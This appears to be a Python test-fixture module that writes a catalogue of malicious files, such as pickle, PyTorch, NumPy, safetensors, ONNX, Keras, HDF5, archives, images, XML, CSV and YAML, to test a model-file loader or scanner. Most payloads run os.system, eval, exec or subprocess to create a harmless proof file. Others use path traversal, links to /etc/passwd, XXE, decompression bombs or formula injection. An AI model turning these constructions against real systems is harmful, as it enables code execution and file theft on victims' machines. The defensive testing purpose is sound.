"""Files made to do harm, each real: FILES[name](file, proof) writes one. Whatever would run in it creates `proof`."""

from __future__ import annotations

import gzip
import io
import json
import marshal
import os
import pickle
import stat
import struct
import subprocess
import tarfile
import warnings
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import torch
from onnx import TensorProto, helper
from PIL import Image

Make = Callable[[Path, Path], Any]  # (the file to write, the proof that something ran)


class Runs:
    """Whoever unpickles this calls `what`."""

    def __init__(self, what: Callable[..., Any], *values: Any) -> None:
        self.what, self.values = what, values

    def __reduce__(self) -> tuple[Any, ...]:
        return self.what, self.values


def touch(proof: Path) -> Runs:
    return Runs(os.system, f"touch {proof}")


# Pickles, bare and in the archives of PyTorch ---------------------------------------------------------------------


def archive(file: Path, pickled: bytes, extra: dict[str, bytes] | None = None, compression: int = 0) -> None:
    """As torch.save writes: a zip with one pickle and one file an array."""
    members = {"net/data.pkl": pickled, "net/byteorder": b"little", "net/version": b"3\n", **(extra or {})}
    with zipfile.ZipFile(file, "w", compression) as written:
        for name, content in members.items():
            written.writestr(name, content)


def legacy(file: Path, body: bytes) -> None:
    """The format before 2020: a magic number, a protocol, the system, then the object."""
    start = [0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}]
    file.write_bytes(b"".join(pickle.dumps(part, 2) for part in start) + body)


def torch_saved(value: Any, legacy_format: bool = False) -> Make:
    return lambda file, _: torch.save(value, file, _use_new_zipfile_serialization=not legacy_format)


def real_archive(file: Path, extra: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> None:
    """What torch.save wrote, and members that it would not write."""
    real = io.BytesIO()
    torch.save({"layer1.0.conv1.weight": torch.zeros(2)}, real)
    with zipfile.ZipFile(real) as source, zipfile.ZipFile(file, "w", compression) as written:
        for member in source.infolist():
            written.writestr(member.filename, source.read(member))
        for name, content in extra.items():
            written.writestr(name, content)


def tar_of_2016(file: Path, proof: Path) -> None:
    with tarfile.open(file, "w") as written:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            add(written, name, pickle.dumps(touch(proof), 2))


PICKLES: dict[str, Make] = {
    "pt: os.system": lambda file, proof: archive(file, pickle.dumps(touch(proof), 2)),
    "pt: eval": lambda file, proof: archive(file, pickle.dumps(Runs(eval, f"open({str(proof)!r}, 'w')"), 2)),
    "pt: exec": lambda file, proof: archive(file, pickle.dumps(Runs(exec, f"open({str(proof)!r}, 'w')"), 2)),
    "pt: builtins.open": lambda file, proof: archive(file, pickle.dumps(Runs(open, str(proof), "w"), 2)),
    "pt: subprocess": lambda file, proof: archive(file, pickle.dumps(Runs(subprocess.call, ["touch", str(proof)]), 2)),
    "pt: hidden among weights": lambda file, proof: torch.save(
        OrderedDict({"conv1.weight": torch.ones(2), "hook": touch(proof)}), file
    ),
    "pt: protocol 4": lambda file, proof: archive(file, pickle.dumps(touch(proof), 4)),
    "pt: legacy": lambda file, proof: legacy(file, pickle.dumps(touch(proof), 2)),
    "pt: legacy, the first object": lambda file, proof: file.write_bytes(pickle.dumps(touch(proof), 2)),
    "pt: a whole model": torch_saved(torch.nn.Linear(2, 2)),
    "pt: a whole model, legacy": torch_saved(torch.nn.Linear(2, 2), legacy_format=True),
    "pt: numbers, not arrays": torch_saved({"conv1.weight": 3, "lr": 0.1}),
    "pt: a sparse array": torch_saved({"conv1.weight": torch.eye(3).to_sparse()}),
    "pt: one number said to be two billion": torch_saved({"conv1.weight": torch.ones(1).expand(2**31)}),
    "pt: zip bomb": lambda file, _: real_archive(file, {"archive/data/1": bytes(10**8)}, zipfile.ZIP_DEFLATED),
    "pt: TorchScript": lambda file, proof: real_archive(
        file, {"archive/code/__torch__.py": f"open({str(proof)!r}, 'w')".encode()}
    ),
    "pt: nested 200,000 deep": lambda file, _: archive(file, b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."),
    "pt: cut short": lambda file, _: archive(file, b"\x80\x02}q\x00(X\x05"),
    "pt: two pickles": lambda file, proof: archive(
        file, pickle.dumps({}, 2), {"other/data.pkl": pickle.dumps(touch(proof), 2)}
    ),
    "pth.tar: of 2016": tar_of_2016,
    "pkl: protocol 0": lambda file, proof: file.write_bytes(pickle.dumps(touch(proof), 0)),
    "pkl.gz: compressed": lambda file, proof: file.write_bytes(gzip.compress(pickle.dumps(touch(proof)))),
    "pyc: marshalled code": lambda file, proof: file.write_bytes(code_of(proof)),
}


def code_of(proof: Path) -> bytes:
    return marshal.dumps(compile(f"open({str(proof)!r}, 'w')", "x", "eval"))


# NumPy, safetensors, ONNX -----------------------------------------------------------------------------------------


def npz(file: Path, proof: Path) -> None:
    with file.open("wb") as written:
        np.savez(written, a=np.array([touch(proof)], dtype=object))


def npy(file: Path, proof: Path) -> None:
    with file.open("wb") as written:
        np.save(written, np.array([touch(proof)], dtype=object))


def npy_header(file: Path, proof: Path) -> None:
    """The header of an array is a Python expression; a careless reader evaluates it."""
    header = f"{{'descr': open({str(proof)!r}, 'w'), 'fortran_order': False, 'shape': (1,)}}\n".encode()
    file.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header)


def safetensors(file: Path, header: Any, data: bytes = b"", length: int | None = None) -> None:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    file.write_bytes(struct.pack("<Q", len(text) if length is None else length) + text + data)


def entry(shape: list[int], start: int, end: int, kind: str = "F32") -> dict[str, Any]:
    return {"dtype": kind, "shape": shape, "data_offsets": [start, end]}


def foreign_onnx(file: Path, proof: Path) -> None:
    """Its weights are said to lie in a file of the system (CVE-2024-27318)."""
    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
    weight.external_data.add(key="location", value="../../../../../../etc/passwd")
    x, y = (helper.make_tensor_value_info(name, TensorProto.FLOAT, [4]) for name in "xy")
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], str(proof), [x], [y], [weight])
    file.write_bytes(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 20)]).SerializeToString())


ARRAYS: dict[str, Make] = {
    "npz: objects": npz,
    "npy: an object": npy,
    "npy: a header that is a program": npy_header,
    "safetensors: header of a terabyte": lambda file, _: safetensors(file, {"a": entry([1], 0, 4)}, bytes(4), 2**40),
    "safetensors: header longer than the file": lambda file, _: safetensors(file, {"a": entry([1], 0, 4)}, b"", 5000),
    "safetensors: array past the end": lambda file, _: safetensors(file, {"a": entry([2**40], 0, 2**42)}, bytes(4)),
    "safetensors: arrays overlap": lambda file, _: safetensors(
        file, {"a": entry([2], 0, 8), "b": entry([2], 4, 12)}, bytes(12)
    ),
    "safetensors: shape against bytes": lambda file, _: safetensors(file, {"a": entry([100], 0, 4)}, bytes(4)),
    "safetensors: sizes overflow": lambda file, _: safetensors(file, {"a": entry([2**62, 8], 0, 4)}, bytes(4)),
    "safetensors: no JSON": lambda file, _: safetensors(file, b"{" + b"[" * 5000, bytes(4)),
    "safetensors: unknown type": lambda file, _: safetensors(file, {"a": entry([1], 0, 4, "OBJECT")}, bytes(4)),
    "onnx: data in another file": foreign_onnx,
}


# Keras, old and new -----------------------------------------------------------------------------------------------


def hdf5(make: Callable[[h5py.File, Path], Any]) -> Make:
    def write(file: Path, proof: Path) -> None:
        with h5py.File(file, "w") as written:
            make(written, proof)

    return write


def layers_of(*layers: dict[str, Any]) -> str:
    start = {"module": "keras.layers", "class_name": "InputLayer", "config": {"name": "in", "batch_shape": [None, 4]}}
    return json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": [start, *layers]}})


def lambda_layer(proof: Path) -> str:
    """What `keras.layers.Lambda` becomes: code as bytes, which Keras runs when it is told to trust the file."""
    code = {"class_name": "__lambda__", "config": {"code": code_of(proof).hex(), "defaults": None, "closure": None}}
    config = {"name": "trap", "function": code}
    return layers_of({"module": "keras.layers", "class_name": "Lambda", "config": config})


def custom_layer(proof: Path) -> str:
    """A class by its name: whoever imports and calls it runs `os.system` (CVE-2025-1550)."""
    return layers_of({"module": "os", "class_name": "system", "config": {"name": f"touch {proof}"},
                      "registered_name": "system", "build_config": {}})  # fmt: skip


def custom_activation(proof: Path) -> str:
    called = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    config = {"name": f"touch {proof}", "units": 2, "activation": called, "use_bias": True}
    return layers_of({"module": "keras.layers", "class_name": "Dense", "config": config})


def weights_file(place: str = "layers/dense/vars/0", value: Any = None) -> bytes:
    content = io.BytesIO()
    with h5py.File(content, "w") as written:
        written[place] = np.ones((4, 2), np.float32) if value is None else value
    return content.getvalue()


def keras(config: Callable[[Path], str] | str, weights: bytes | None = None, **extra: bytes) -> Make:
    def write(file: Path, proof: Path) -> None:
        text = config if isinstance(config, str) else config(proof)
        content = {"config.json": text.encode(), "model.weights.h5": weights or weights_file(), "metadata.json": b"{}"}
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as written:
            for name, value in {**content, **extra}.items():
                written.writestr(name, value)

    return write


def keras_link(file: Path, proof: Path) -> None:
    keras(PLAIN)(file, proof)
    with zipfile.ZipFile(file, "a") as written:
        link = zipfile.ZipInfo("assets/link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        written.writestr(link, "/etc/passwd")


def keras_twice(file: Path, proof: Path) -> None:
    """The first config is harmless; a reader that takes the last gets the other."""
    keras(PLAIN)(file, proof)
    with zipfile.ZipFile(file, "a") as written, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        written.writestr("config.json", lambda_layer(proof))


def with_config(config: Callable[[Path], str]) -> Make:
    def make(written: h5py.File, proof: Path) -> None:
        written.attrs["model_config"] = config(proof)
        written.create_dataset("model_weights/conv1/conv1/kernel:0", data=np.ones((7, 7, 3, 64), np.float32))

    return hdf5(make)


def outside(written: h5py.File, proof: Path) -> None:
    with h5py.File(proof.with_name("other.h5"), "w") as other:
        other["secret"] = np.ones(3, np.float32)
    written["conv1_conv"] = h5py.ExternalLink(str(proof.with_name("other.h5")), "secret")


def external(written: h5py.File, proof: Path) -> None:
    secret = proof.with_name("secret.bin")
    secret.write_bytes(bytes(64))
    written.create_dataset("conv1_conv/kernel:0", (16,), "f4", external=[(str(secret), 0, 64)])


def round_trip(written: h5py.File, _: Path) -> None:
    group = written.create_group("conv1_conv")
    group["again"] = group  # a group that contains itself


PLAIN = layers_of({"module": "keras.layers", "class_name": "Dense",
                   "config": {"name": "dense", "units": 2, "activation": "softmax", "use_bias": True}})  # fmt: skip
KERAS: dict[str, Make] = {
    "keras: Lambda": keras(lambda_layer),
    "keras: a class from elsewhere": keras(custom_layer),
    "keras: an activation from elsewhere": keras(custom_activation),
    "keras: weights in another file": keras(PLAIN, weights_file(value=h5py.ExternalLink("/etc/passwd", "x"))),
    "keras: a path that leads out": keras(PLAIN, **{"../../proof": b"x"}),
    "keras: an absolute path": keras(PLAIN, **{"/tmp/proof": b"x"}),
    "keras: a link": keras_link,
    "keras: two configs": keras_twice,
    "keras: a config that swells": keras(PLAIN + " " * 50_000_000),
    "keras: nested 100,000 deep": keras("[" * 100_000),
    "keras: ten thousand files": keras(PLAIN, **{f"assets/{number}": b"" for number in range(10_001)}),
    "h5: Lambda": with_config(lambda_layer),
    "h5: a class from elsewhere": with_config(custom_layer),
    "h5: link to another file": hdf5(outside),
    "h5: data in another file": hdf5(external),
    "h5: a gigabyte out of nothing": hdf5(
        lambda written, _: written.create_dataset("conv1/k:0", (2**28,), "f4", compression="gzip", fillvalue=1.0)
    ),
    "h5: a group inside itself": hdf5(round_trip),
    "h5: text for numbers": hdf5(
        lambda written, _: written.create_dataset("conv1/k:0", data="import os", dtype=h5py.string_dtype())
    ),
}


# Archives ---------------------------------------------------------------------------------------------------------


def add(written: tarfile.TarFile, name: str, content: bytes = b"", kind: bytes = tarfile.REGTYPE, to: str = "") -> None:
    info = tarfile.TarInfo(name)
    info.size, info.type, info.linkname = len(content), kind, to
    written.addfile(info, io.BytesIO(content))


def tar(name: str, content: bytes = b"x", kind: bytes = tarfile.REGTYPE, to: str = "", mode: str = "w") -> Make:
    def write(file: Path, proof: Path) -> None:
        with tarfile.open(file, mode) as written:  # type: ignore[call-overload]
            add(written, name.replace("PROOF", str(proof)), content, kind, to)

    return write


def zipped(name: str, content: bytes, mode: int = 0) -> Make:
    def write(file: Path, proof: Path) -> None:
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as written:
            member = zipfile.ZipInfo(name.replace("PROOF", str(proof)))
            member.external_attr, member.compress_type = mode << 16, zipfile.ZIP_DEFLATED
            written.writestr(member, content)

    return write


ARCHIVES: dict[str, Make] = {
    "tar: a path that leads out": tar("../../proof"),
    "tar: an absolute path": tar("PROOF"),
    "tar: a link": tar("weights", b"", tarfile.SYMTYPE, "/etc/passwd"),
    "tar: a hard link": tar("weights", b"", tarfile.LNKTYPE, "/etc/passwd"),
    "tar: a device": tar("weights", b"", tarfile.CHRTYPE),
    "tar: a pipe": tar("weights", b"", tarfile.FIFOTYPE),
    "tar.gz: a bomb": tar("weights", bytes(10**8), mode="w:gz"),
    "zip: a path that leads out": zipped("../../proof", b"x"),
    "zip: an absolute path": zipped("PROOF", b"x"),
    "zip: a link": zipped("weights", b"/etc/passwd", stat.S_IFLNK | 0o777),
    "zip: a bomb": zipped("weights", bytes(10**8)),
    "gz: a bomb": lambda file, _: file.write_bytes(gzip.compress(bytes(10**8))),
}


# Pictures, and what calls itself one ------------------------------------------------------------------------------


def png(width: int, height: int, *more: tuple[bytes, bytes]) -> bytes:
    """A PNG of a few bytes that says it has width x height pixels; `more`: chunks before those of the picture."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    parts = [(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)), *more,
             (b"IDAT", zlib.compress(bytes(99))), (b"IEND", b"")]  # fmt: skip
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*part) for part in parts)


def saved_as(kind: str, size: tuple[int, int] = (9, 9)) -> Make:
    return lambda file, _: Image.new("L", size).save(file, kind)


def large_jpeg(file: Path, _: Path) -> None:
    """A small picture whose header says 65,000 x 65,000."""
    real = io.BytesIO()
    Image.new("L", (8, 8)).save(real, "JPEG")
    content = bytearray(real.getvalue())
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    file.write_bytes(content)


def large_bmp(file: Path, _: Path) -> None:
    info = struct.pack("<IiiHHIIiiII", 40, 2**30, 2**30, 1, 24, 0, 0, 0, 0, 0, 0)
    file.write_bytes(b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + info)


def large_webp(file: Path, _: Path) -> None:
    bits = (16_383) | (16_383 << 14)  # 16,384 x 16,384, lossless
    body = b"VP8L" + struct.pack("<I", 5) + b"\x2f" + struct.pack("<I", bits) + b"\0"
    file.write_bytes(b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
ENTITY = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (97 + n, b"&%c;" % (96 + n) * 10) for n in range(1, 10)
) + b"]><l>&j;</l>"  # fmt: skip
PICTURES: dict[str, Make] = {
    "png: 3.6 billion pixels": lambda file, _: file.write_bytes(png(60_000, 60_000)),
    "png: 26 million pixels": lambda file, _: file.write_bytes(png(5_200, 5_000)),
    "png: a text of 100 MB": lambda file, _: file.write_bytes(
        png(9, 9, (b"zTXt", b"x\0\0" + zlib.compress(bytes(10**8))))
    ),
    "png: a colour profile of 100 MB": lambda file, _: file.write_bytes(
        png(99, 99, (b"iCCP", b"x\0\0" + zlib.compress(bytes(10**8))))
    ),
    "png: cut short": lambda file, _: file.write_bytes(png(64, 64)[:60]),
    "jpeg: 4.2 billion pixels": large_jpeg,
    "bmp: a billion pixels wide": large_bmp,
    "webp: 268 million pixels": large_webp,
    "gif": saved_as("GIF"),
    "tiff": saved_as("TIFF"),
    "ico": saved_as("ICO", (16, 16)),
    "pdf": saved_as("PDF"),
    "eps: a program": lambda file, proof: file.write_bytes(
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%touch " + str(proof).encode() + b") (w) file\n%%EOF\n"
    ),
    "svg": lambda file, _: file.write_bytes(SVG),
    "svg: another file in it": lambda file, _: file.write_bytes(ENTITY),
    "xml: a billion laughs": lambda file, _: file.write_bytes(LAUGHS),
    "html": lambda file, _: file.write_text("<!doctype html><script>alert(1)</script><p>Not found"),
}


# Tables, texts, programs ------------------------------------------------------------------------------------------

TEXTS: dict[str, Make] = {
    "csv: a cell of 10 MB": lambda file, _: file.write_text("text,label\n" + "a" * 10_000_000 + ",yes\n"),
    "csv: a formula": lambda file, proof: file.write_text(f"text,label\n=cmd|'/c touch {proof}'!A1,yes\n"),
    "csv: zeros": lambda file, _: file.write_bytes(bytes(1_000_000)),
    "yaml: a program": lambda file, proof: file.write_text(f"a: !!python/object/apply:os.system ['touch {proof}']\n"),
    "json: nested 100,000 deep": lambda file, _: file.write_text('{"a":' + "[" * 100_000),
    "sh": lambda file, proof: file.write_text(f"#!/bin/sh\ntouch {proof}\n"),
    "py": lambda file, proof: file.write_text(f"open({str(proof)!r}, 'w')\n"),
    "txt: what a terminal obeys": lambda file, _: file.write_text("\x1b]0;owned\x07\x1b[2J\x9b31m\u202eslrow\n"),
    "elf": lambda file, _: file.write_bytes(b"\x7fELF\x02\x01\x01" + bytes(200)),
    "nothing": lambda file, _: file.write_bytes(b""),
}

FILES: dict[str, Make] = {**PICKLES, **ARRAYS, **KERAS, **ARCHIVES, **PICTURES, **TEXTS}
